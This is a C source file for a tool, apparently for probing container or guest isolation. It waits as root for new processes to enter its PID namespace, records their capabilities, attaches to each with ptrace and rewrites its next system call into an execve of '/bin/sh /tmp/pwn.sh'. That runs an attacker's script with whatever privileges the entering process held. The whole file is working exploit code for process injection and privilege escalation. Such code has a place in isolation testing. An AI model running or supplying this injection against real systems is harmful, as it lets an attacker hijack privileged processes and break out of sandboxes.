/* Root inside a guest, waiting for the next process to appear in its PID
 * namespace: it notes the capabilities of every new process it sees, and
 * attaches to it (PTRACE_SEIZE) to turn its next system call into
 * execve("/bin/sh", "/tmp/pwn.sh"), which then runs with whatever that
 * process held. Usage: ptrace_next SECONDS; its findings go to stdout. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int last_pid(void)
{
    FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
    int pid = 0;
    if (f) {
        if (fscanf(f, "%d", &pid) != 1)
            pid = 0;
        fclose(f);
    }
    return pid;
}

static void note_capabilities(int pid)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return;
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "CapBnd:", 7))
            printf("seen %d %s", pid, line);
    fclose(f);
    fflush(stdout);
}

static void poke_string(int pid, unsigned long address, const char *text)
{
    size_t length = strlen(text) + 1;
    for (size_t i = 0; i < length; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, text + i, length - i < sizeof(long) ? length - i : sizeof(long));
        ptrace(PTRACE_POKEDATA, pid, address + i, word);
    }
}

static void inject_execve(int pid)
{
    int status;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
        return;
    for (int i = 0; i < 100; i++) {
        if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0)
            return;
        if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
            return;
        if (WSTOPSIG(status) == (SIGTRAP | 0x80))
            break;
    }
#if defined(__x86_64__)
    struct user_regs_struct regs;
    if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
        return;
    unsigned long base = (regs.rsp - 8192) & ~15UL;
    poke_string(pid, base, "/bin/sh");
    poke_string(pid, base + 16, "/tmp/pwn.sh");
    ptrace(PTRACE_POKEDATA, pid, base + 64, base);
    ptrace(PTRACE_POKEDATA, pid, base + 72, base + 16);
    ptrace(PTRACE_POKEDATA, pid, base + 80, 0L);
    regs.orig_rax = 59; /* execve */
    regs.rdi = base;
    regs.rsi = base + 64;
    regs.rdx = 0;
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
#endif
    ptrace(PTRACE_DETACH, pid, 0, 0);
    printf("injected %d\n", pid);
    fflush(stdout);
}

int main(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
    int self = getpid(), next = last_pid() + 1;
    printf("ready %d\n", self);
    fflush(stdout);
    while (time(NULL) < end) {
        if (next == self) {
            next++;
            continue;
        }
        if (kill(next, 0) < 0 && errno == ESRCH) {
            if (last_pid() >= next + 1)
                next++; /* it came and went */
            continue;
        }
        note_capabilities(next);
        if (ptrace(PTRACE_SEIZE, next, 0, PTRACE_O_TRACESYSGOOD) == 0) {
            printf("attached %d\n", next);
            note_capabilities(next);
            inject_execve(next);
        } else {
            printf("refused %d %s\n", next, strerror(errno));
        }
        fflush(stdout);
        next++;
    }
    printf("done\n");
    return 0;
}
